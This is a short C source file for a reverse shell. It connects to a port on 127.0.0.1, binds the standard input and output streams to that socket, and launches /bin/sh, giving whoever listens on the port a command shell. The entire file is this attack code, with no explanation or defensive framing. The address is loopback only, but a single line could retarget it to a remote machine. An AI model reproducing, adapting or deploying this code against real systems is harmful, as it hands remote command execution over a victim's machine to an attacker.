/* Connects to 127.0.0.1:PORT and becomes a shell on that connection. usage: reverse_shell PORT */
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int caller = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in peer = {.sin_family = AF_INET,
                               .sin_port = htons(atoi(argv[1])),
                               .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (connect(caller, (struct sockaddr *)&peer, sizeof peer)) return 3;
    for (int stream = 0; stream < 3; stream++) dup2(caller, stream);
    execl("/bin/sh", "sh", (char *)0);
    return 4;
}
